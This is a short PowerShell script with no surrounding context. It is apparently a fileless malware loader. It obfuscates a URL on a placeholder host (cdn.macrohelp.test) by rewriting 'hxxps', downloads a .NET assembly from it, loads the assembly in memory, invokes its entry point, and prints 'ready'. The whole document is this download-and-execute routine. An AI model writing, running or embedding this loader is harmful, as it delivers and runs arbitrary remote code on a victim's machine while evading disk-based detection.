$h = 'hxxps://cdn.macrohelp.test/t'.Replace('xx', 'tt')
$b = [System.Net.WebRequest]::Create($h).GetResponse().GetResponseStream()
$m = New-Object System.IO.MemoryStream
$b.CopyTo($m)
$a = [System.Reflection.Assembly]::Load($m.ToArray())
$a.EntryPoint.Invoke($null, @(, [string[]]@()))
Write-Output 'ready'
